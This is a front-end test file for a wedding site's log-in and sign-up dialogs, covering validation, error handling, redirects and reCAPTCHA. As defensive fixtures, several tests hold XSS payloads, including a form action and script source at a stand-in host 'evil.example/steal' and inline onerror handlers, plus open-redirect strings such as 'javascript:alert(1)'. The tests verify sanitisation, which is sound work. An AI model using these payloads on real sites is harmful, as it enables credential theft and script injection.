import { screen, waitFor, within } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { http, HttpResponse } from 'msw';
import { describe, expect, it } from 'vitest';
import { findUserByMail } from '../../../mocks/db';
import { allowConsole, expectConsole } from '../../../mocks/console-guard';
import { server } from '../../../mocks/node';
import { useMockBackend } from '../../../mocks/testing';
import { readCookie } from '../../lib/cookies';
import { uiMessages } from '../../ui/messages';
import { sameOriginUrl } from '../../lib/safe-redirect';

import { useVisitorPage } from '../../../mocks/auth-page';

useMockBackend();
// The site config here has no Pusher settings: the first page to log in says realtime is off, once.
allowConsole('info', '[widgets] Realtime is off: the site config has no "pusher" settings.');

const page = useVisitorPage();

async function openLayer(button: 'Log in' | 'Sign up') {
  const user = userEvent.setup({ delay: null });
  await user.click(screen.getByRole('button', { name: button }));
  const dialog = await screen.findByRole('dialog', { name: button });
  await within(dialog).findByLabelText('Email');
  return { user, dialog };
}

const posts = (path: string) => page.count('POST', path);

describe('the log-in layer', () => {
  it('says what is wrong before sending, focusing the first problem', async () => {
    const { user, dialog } = await openLayer('Log in');
    await user.type(within(dialog).getByLabelText('Password'), 'abc');
    await user.click(within(dialog).getByRole('button', { name: 'Log in' }));

    expect(within(dialog).getByLabelText('Email')).toHaveFocus();
    expect(within(dialog).getByLabelText('Email')).toHaveAccessibleDescription('Check that the email is correct.');
    expect(within(dialog).getByLabelText('Password')).toHaveAccessibleDescription('Your password must be at least six characters.');
    expect(posts('/users-login-run.php')).toBe(0);
  });

  it("shows the server's errorMessage for a wrong password and keeps what was typed", async () => {
    const { user, dialog } = await openLayer('Log in');
    await user.type(within(dialog).getByLabelText('Email'), 'couple@example.com');
    await user.type(within(dialog).getByLabelText('Password'), 'NotMyPassword1');
    await user.click(within(dialog).getByRole('button', { name: 'Log in' }));

    expect(await within(dialog).findByText('The email or password you entered is incorrect.')).toHaveAttribute('role', 'alert');
    expect(within(dialog).getByLabelText('Email')).toHaveValue('couple@example.com');
    expect(within(dialog).getByLabelText('Password')).toHaveValue('NotMyPassword1');
  });

  it('logs the couple in with one request for a double click: the layer closes and the header shows the account', async () => {
    const { user, dialog } = await openLayer('Log in');
    await user.type(within(dialog).getByLabelText('Email'), 'couple@example.com');
    await user.type(within(dialog).getByLabelText('Password'), 'Wedding2026!');
    await user.dblClick(within(dialog).getByRole('button', { name: 'Log in' }));

    expect(await screen.findByRole('button', { name: 'My account' })).toBeInTheDocument();
    expect(screen.queryByRole('dialog')).toBeNull();
    expect(screen.getByRole('link', { name: 'Favourites' })).toBeInTheDocument();
    expect(readCookie('USER_ID')).toBe('1');
    expect(posts('/users-login-run.php')).toBe(1);
  });

  it.each([
    ['a network error', () => HttpResponse.error(), uiMessages.formOffline],
    ['a 500', () => new HttpResponse('boom', { status: 500 }), uiMessages.formFailed],
  ])('says so after %s, keeps what was typed, and logs in on the next try', async (_, answer, message) => {
    server.use(http.post('*/users-login-run.php', answer, { once: true }));
    const { user, dialog } = await openLayer('Log in');
    await user.type(within(dialog).getByLabelText('Email'), 'couple@example.com');
    await user.type(within(dialog).getByLabelText('Password'), 'Wedding2026!');
    await user.click(within(dialog).getByRole('button', { name: 'Log in' }));

    expect(await within(dialog).findByText(message)).toHaveAttribute('role', 'alert');
    expect(within(dialog).getByLabelText('Email')).toHaveValue('couple@example.com');
    expect(within(dialog).getByLabelText('Password')).toHaveValue('Wedding2026!');
    await user.click(within(dialog).getByRole('button', { name: 'Log in' }));
    expect(await screen.findByRole('button', { name: 'My account' })).toBeInTheDocument();
  });

  it('asks for its form once a click, at the click; closed and opened again, it asks again', async () => {
    const { user } = await openLayer('Log in');
    expect(page.count('GET', '/users-login-layer.php')).toBe(1);
    await user.keyboard('{Escape}');
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull());
    await openLayer('Log in');
    expect(page.count('GET', '/users-login-layer.php')).toBe(2);
  });

  it('keeps nothing that could run from a hostile fragment, and posts to the contract, not its action', async () => {
    server.use(
      http.get('*/users-login-layer.php', () =>
        HttpResponse.html(`<form action="https://evil.example/steal" onsubmit="window.__hacked = 1">
<img src=x onerror="window.__hacked = 1"><script src="https://evil.example/x.js"></script><script>window.__hacked = 1</script>
<label for="m">Email</label><input id="m" name="mail" onfocus="window.__hacked = 1">
<label for="p">Password</label><input id="p" name="password" type="password">
<button type="submit">Log in</button></form>`),
      ),
    );
    // happy-dom, unlike browsers, asks for a script's file even in the inert document DOMPurify
    // parses into (then refuses it): what it prints shows the script was in the fragment, no more.
    expectConsole('error', 'Failed to load script "https://evil.example/x.js"');
    const { user, dialog } = await openLayer('Log in');
    expect(dialog.querySelector('script, [onerror], [onfocus], [onsubmit], form[action]')).toBeNull();
    await user.type(within(dialog).getByLabelText('Email'), 'couple@example.com');
    await user.type(within(dialog).getByLabelText('Password'), 'Wedding2026!');
    await user.click(within(dialog).getByRole('button', { name: 'Log in' }));
    // The form posts through the contract, not to the fragment's action (Chromium proves nothing runs: scripts/accounts.browser.test.ts).
    await screen.findByRole('button', { name: 'My account' });
    expect(page.requested.filter((r) => r.startsWith('POST ') && r !== 'POST /trace/internalTracking.php')).toEqual(['POST /users-login-run.php']);
  });

  it.each([
    ['//evil.example', undefined],
    ['javascript:alert(1)', undefined],
    ['https://site.example.evil.example/', undefined],
    [`${location.protocol}//${location.hostname}:1/tools/Vendors`, undefined],
    ['/tools/Vendors?from=login', `${location.origin}/tools/Vendors?from=login`],
  ])('follows urlRedirect %s only when it is this origin', (url: string, followed: string | undefined) => {
    expect(sameOriginUrl(url)).toBe(followed);
  });
});

describe('the sign-up layer', () => {
  async function fillValid(user: ReturnType<typeof userEvent.setup>, dialog: HTMLElement, mail: string) {
    await user.type(within(dialog).getByLabelText('Full name'), 'Alex Rivera');
    await user.type(within(dialog).getByLabelText('Email'), mail);
    await user.type(within(dialog).getByLabelText('Password'), 'Forever2027!');
    await user.click(within(dialog).getByLabelText('Bride'));
    await user.click(within(dialog).getByRole('checkbox'));
  }

  it.each([
    ['Full name', '', 'Enter your full name.'],
    ['Full name', 'Al', 'Your name must have a minimum of 3 characters.'],
    ['Email', 'alex@', 'Check that the email is correct.'],
    ['Email', 'alex@example.com; bad', 'Check that the email is correct.'],
    ['Email', 'x1@privaterelay.appleid.com', 'Check that the email is correct.'],
    [
      'Password',
      'lowercase1',
      'Your password must be between 8 and 48 characters and include at least 1 lowercase letter, 1 capital letter, 1 number, and no spaces.',
    ],
    ['Password', 'With Space1', 'Your password must be between 8 and 48 characters and include at least 1 lowercase letter, 1 capital letter, 1 number, and no spaces.'],
    ['Wedding date', '2027-13-45', 'Event date'],
    ['Wedding date', '19/06/2027', 'Event date'],
  ])('refuses %s "%s" with "%s"', async (label, value, message) => {
    const { user, dialog } = await openLayer('Sign up');
    await fillValid(user, dialog, 'alex.rivera@example.com');
    const field = within(dialog).getByLabelText(label);
    await user.clear(field);
    if (value) await user.type(field, value);
    await user.click(within(dialog).getByRole('button', { name: 'Sign up' }));

    await waitFor(() => expect(within(dialog).getByLabelText(label)).toHaveAccessibleDescription(expect.stringContaining(message)));
    expect(posts('/users-signup-run.php')).toBe(0);
  });

  it("asks for the country with 'Error country message'", async () => {
    const { user, dialog } = await openLayer('Sign up');
    await user.selectOptions(within(dialog).getByRole('combobox', { name: 'Country' }), '');
    await user.click(within(dialog).getByRole('button', { name: 'Sign up' }));
    expect(within(dialog).getByRole('combobox', { name: 'Country' })).toHaveAccessibleDescription('Error country message');
  });

  it('asks for the role, the city and the consent, and reveals the other-role field for Other', async () => {
    const { user, dialog } = await openLayer('Sign up');
    await user.click(within(dialog).getByRole('button', { name: 'Sign up' }));

    expect(within(dialog).getByRole('group', { name: 'I am the' })).toHaveAccessibleDescription('Let us know your role in the wedding');
    expect(within(dialog).getByLabelText('City where you live')).toHaveAccessibleDescription('Please select the city where you live.');
    expect(within(dialog).getByRole('checkbox')).toHaveAccessibleDescription('You must accept the Terms of Use and privacy policy.');
    expect(within(dialog).queryByRole('textbox', { name: 'Your role in the wedding' })).toBeNull();
    await user.click(within(dialog).getByLabelText('Other'));
    expect(within(dialog).getByRole('textbox', { name: 'Your role in the wedding' })).toBeVisible();
    expect(within(dialog).getByRole('group', { name: 'I am the' })).not.toHaveAccessibleDescription('Let us know your role in the wedding');
  });

  it('offers the domain the person probably meant, and clicking it fills the field', async () => {
    const { user, dialog } = await openLayer('Sign up');
    await fillValid(user, dialog, 'name@gmial.com');
    await user.click(within(dialog).getByRole('button', { name: 'Sign up' }));

    await user.click(await within(dialog).findByRole('button', { name: 'name@gmail.com' }));
    expect(within(dialog).getByLabelText('Email')).toHaveValue('name@gmail.com');
    expect(within(dialog).getByLabelText('Email')).toHaveFocus();
    expect(within(dialog).getByLabelText('Email')).not.toHaveAttribute('aria-invalid');
  });

  it('signs a new couple up with the city from the autocomplete: one multipart request, then the header shows the account', async () => {
    const { user, dialog } = await openLayer('Sign up');
    await fillValid(user, dialog, 'sam.new@example.com');
    await user.type(within(dialog).getByRole('combobox', { name: 'City where you live' }), 'San Fr');
    await user.click(await within(dialog).findByRole('option', { name: /^San Francisco/ }));
    await user.dblClick(within(dialog).getByRole('button', { name: 'Sign up' }));

    expect(await screen.findByRole('button', { name: 'My account' })).toBeInTheDocument();
    expect(screen.queryByRole('dialog')).toBeNull();
    expect(posts('/users-signup-run.php')).toBe(1);
    expect(readCookie('USER_ID')).toMatch(/^\d+$/);
    expect(findUserByMail('sam.new@example.com')).toMatchObject({ name: 'Alex Rivera', role: 1, country: 'US' });
    expect(findUserByMail('sam.new@example.com')?.cityId).toEqual(expect.any(Number));
  });

  it.each([
    ['a network error', () => HttpResponse.error(), uiMessages.formOffline],
    ['a 500', () => new HttpResponse('boom', { status: 500 }), uiMessages.formFailed],
  ])('says so after %s on sending, keeping everything typed', async (_, answer, message) => {
    server.use(http.post('*/users-signup-run.php', answer));
    const { user, dialog } = await openLayer('Sign up');
    await fillValid(user, dialog, 'sam.retry@example.com');
    await user.type(within(dialog).getByRole('combobox', { name: 'City where you live' }), 'San Fr');
    await user.click(await within(dialog).findByRole('option', { name: /^San Francisco/ }));
    await user.click(within(dialog).getByRole('button', { name: 'Sign up' }));

    expect(await within(dialog).findByText(message)).toHaveAttribute('role', 'alert');
    expect(within(dialog).getByLabelText('Full name')).toHaveValue('Alex Rivera');
    expect(within(dialog).getByLabelText('Email')).toHaveValue('sam.retry@example.com');
    expect(within(dialog).getByLabelText('Password')).toHaveValue('Forever2027!');
    expect(within(dialog).getByLabelText('Bride')).toBeChecked();
    expect(within(dialog).getByRole('combobox', { name: 'City where you live' })).toHaveValue('San Francisco, California');
    expect(within(dialog).getByRole('checkbox')).toBeChecked();
  });

  it('opens log-in with the duplicate message and the e-mail for an address already registered', async () => {
    const { user, dialog } = await openLayer('Sign up');
    await fillValid(user, dialog, 'couple@example.com');
    await user.click(within(dialog).getByRole('button', { name: 'Sign up' }));

    const login = await screen.findByRole('dialog', { name: 'Log in' });
    expect(await within(login).findByRole('alert')).toHaveTextContent('There is already a registered user with the email couple@example.com');
    expect(within(login).getByLabelText('Email')).toHaveValue('couple@example.com');
    expect(posts('/users-signup-run.php')).toBe(0);
  });
});

describe("a PHP page's own header", () => {
  it('is refreshed from /users-login-header-update.php after a log-in, cleaned', async () => {
    server.use(http.post('*/users-login-header-update.php', () => HttpResponse.html('<div class="header__actions"><a href="/tools/Vendors">Alex</a><img src=x onerror="window.__x=1"></div>')));
    document.body.insertAdjacentHTML('beforeend', '<div data-header-update><a href="/users-login.php">Log in</a></div>');
    const region = document.querySelector<HTMLElement>('[data-header-update]')!;
    const { user, dialog } = await openLayer('Log in');
    await user.type(within(dialog).getByLabelText('Email'), 'couple@example.com');
    await user.type(within(dialog).getByLabelText('Password'), 'Wedding2026!');
    await user.click(within(dialog).getByRole('button', { name: 'Log in' }));

    await waitFor(() => expect(within(region).getByRole('link', { name: 'Alex' })).toHaveAttribute('href', '/tools/Vendors'));
    expect(within(region).queryByRole('link', { name: 'Log in' })).toBeNull();
    expect(region.querySelector('[onerror]')).toBeNull();
    expect(posts('/users-login-header-update.php')).toBe(1);
  });

  it('is not asked for when the page has none (the header widget refreshes itself)', async () => {
    const { user, dialog } = await openLayer('Log in');
    await user.type(within(dialog).getByLabelText('Email'), 'couple@example.com');
    await user.type(within(dialog).getByLabelText('Password'), 'Wedding2026!');
    await user.click(within(dialog).getByRole('button', { name: 'Log in' }));
    await screen.findByRole('button', { name: 'My account' });
    expect(posts('/users-login-header-update.php')).toBe(0);
  });
});

describe("the sign-up's reCAPTCHA", () => {
  it('is shown when the server does not answer success, and reset on the next refusal', async () => {
    const calls: string[] = [];
    (window as { grecaptcha?: unknown }).grecaptcha = {
      ready: (callback: () => void) => callback(),
      render: (_box: HTMLElement, options: { sitekey: string }) => (calls.push(`render ${options.sitekey}`), 7),
      reset: (id: number) => calls.push(`reset ${id}`),
    };
    server.use(
      http.get('*/users-signup-layer.php', () =>
        HttpResponse.html(`<form><label for="n">Full name</label><input id="n" name="NombreCompleto" value="Alex Rivera">
<label for="m">Email</label><input id="m" name="Mail" type="email" value="alex.captcha@example.com">
<label for="p">Password</label><input id="p" name="Password" type="password" value="Forever2027!">
<input type="radio" name="Rol" value="1" checked aria-label="Bride">
<div class="g-recaptcha" data-sitekey="site-key-123" hidden></div>
<div class="form__error" role="alert" hidden></div><button type="submit">Sign up</button></form>`),
      ),
      http.post('*/users-signup-run.php', () => HttpResponse.json({ status: 'captcha', message: 'Please confirm you are not a robot.' })),
    );
    const user = userEvent.setup({ delay: null });
    await user.click(screen.getByRole('button', { name: 'Sign up' }));
    const dialog = await screen.findByRole('dialog', { name: 'Sign up' });
    await user.click(await within(dialog).findByRole('button', { name: 'Sign up' }));

    expect(await within(dialog).findByText('Please confirm you are not a robot.')).toHaveAttribute('role', 'alert');
    await waitFor(() => expect(calls).toEqual(['render site-key-123']));
    expect(dialog.querySelector('.g-recaptcha')).toBeVisible();
    await user.click(within(dialog).getByRole('button', { name: 'Sign up' }));
    await waitFor(() => expect(calls).toEqual(['render site-key-123', 'reset 7']));
    delete (window as { grecaptcha?: unknown }).grecaptcha;
  });
});
